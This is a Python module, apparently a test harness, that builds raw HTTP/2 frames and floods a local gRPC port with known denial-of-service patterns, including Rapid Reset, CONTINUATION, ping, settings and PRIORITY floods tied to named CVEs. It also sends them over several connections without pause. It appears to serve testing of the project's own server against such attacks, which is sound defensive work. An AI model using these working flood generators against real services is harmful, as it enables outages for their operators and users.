"""What hostile HTTP/2 clients send to the gRPC port without a key: floods of frames, over raw connections.

Each flood is bytes that are sent again and again on one connection, after the preface; answers are read and thrown
away. Header blocks are literals without indexing (RFC 7541 §6.2.2), so that no table has to be kept.
"""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Callable, Iterator
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
_CANCEL = struct.pack(">I", 8)
_BATCH = 64
"""Frames that are written at once: as few system calls as a real attacker makes."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    return b"\x00" + _string(name) + _string(value)


def _string(text: str) -> bytes:
    data = text.encode()
    assert len(data) < 127, "longer ones need another form of their length (RFC 7541 §5.1)"
    return bytes([len(data)]) + data


def request_head(path: str = "/toolhub.v1.ToolService/Invoke", *more: tuple[str, str]) -> bytes:
    """The header block of an RPC."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "hub")]
    fields += [("content-type", "application/grpc"), ("te", "trailers"), *more]
    return b"".join(literal(name, value) for name, value in fields)


def _streams() -> Iterator[int]:
    yield from range(1, 2**31, 2)


def rpcs_of(path: str) -> Iterator[bytes]:
    """RPCs with an empty message each."""
    head = request_head(path)
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, bytes(5))


def rpcs() -> Iterator[bytes]:
    """RPCs that are refused for want of a key."""
    return rpcs_of("/toolhub.v1.ToolService/Invoke")


def unknown_rpcs() -> Iterator[bytes]:
    """RPCs of a service that there is not."""
    return rpcs_of("/x.Y/Z")


def health_checks() -> Iterator[bytes]:
    """RPCs that need no key."""
    return rpcs_of("/grpc.health.v1.Health/Check")


def rapid_resets() -> Iterator[bytes]:
    """RPCs that are reset as soon as they are sent (CVE-2023-44487)."""
    head = request_head()
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, _CANCEL)


def continuations() -> Iterator[bytes]:
    """One head that does not end (CVE-2024-27316 and its kin)."""
    yield frame(HEADERS, 0, 1, request_head())
    piece = literal("x", "y" * 100) * 150
    while True:
        yield frame(CONTINUATION, 0, 1, piece)


def empty_continuations() -> Iterator[bytes]:
    """The same, in frames without a byte."""
    yield frame(HEADERS, 0, 1, request_head())
    while True:
        yield frame(CONTINUATION, 0, 1)


def long_heads() -> Iterator[bytes]:
    """Heads over the limit on metadata, one RPC after the other, each in CONTINUATION frames."""
    piece = literal("x", "y" * 100) * 150
    for stream in _streams():
        yield frame(HEADERS, END_STREAM, stream, request_head())
        yield frame(CONTINUATION, 0, stream, piece) * 3
        yield frame(CONTINUATION, END_HEADERS, stream, piece)


def pings() -> Iterator[bytes]:
    """Pings, each of which is to be answered (CVE-2019-9512)."""
    while True:
        yield frame(PING, 0, 0, bytes(8))


def settings() -> Iterator[bytes]:
    """Settings, each of which is to be acknowledged (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, 0, 0)


def empty_data() -> Iterator[bytes]:
    """DATA frames without a byte, on one RPC that does not end (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, request_head())
    while True:
        yield frame(DATA, 0, 1)


def priorities() -> Iterator[bytes]:
    """PRIORITY frames (CVE-2019-9513)."""
    while True:
        yield frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 16))


def window_updates() -> Iterator[bytes]:
    """Windows widened by a byte at a time, on RPCs that have ended."""
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


Flood = Callable[[], Iterator[bytes]]

FLOODS: dict[str, Flood] = {
    "RPCs": rpcs,
    "RPCs of no service": unknown_rpcs,
    "health checks": health_checks,
    "RPCs that are reset": rapid_resets,
    "CONTINUATION frames": continuations,
    "empty CONTINUATION frames": empty_continuations,
    "heads that are too long": long_heads,
    "pings": pings,
    "settings": settings,
    "empty DATA frames": empty_data,
    "PRIORITY frames": priorities,
    "WINDOW_UPDATE frames": window_updates,
}


async def flood(port: int, frames: Flood, *, max_frames: int = 2**62) -> int:
    """One connection of a flood, until it is closed or so many frames are sent; returns how many were."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    reading = asyncio.create_task(_thrown_away(reader))
    sent = 0
    try:
        with suppress(ConnectionError):
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            made = frames()
            while sent < max_frames and not reading.done():
                writer.write(b"".join(next(made) for _ in range(_BATCH)))
                sent += _BATCH
                await writer.drain()
    finally:
        reading.cancel()
        writer.transport.abort()
    return sent


async def _thrown_away(reader: asyncio.StreamReader) -> None:
    with suppress(ConnectionError):
        while await reader.read(65_536):
            pass


async def flood_without_pause(port: int, frames: Flood, connections: int = 4) -> None:
    """So many connections of a flood until cancelled; each that is closed is opened anew at once."""

    async def one() -> None:
        while True:
            with suppress(OSError):
                await flood(port, frames)
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(connections)))
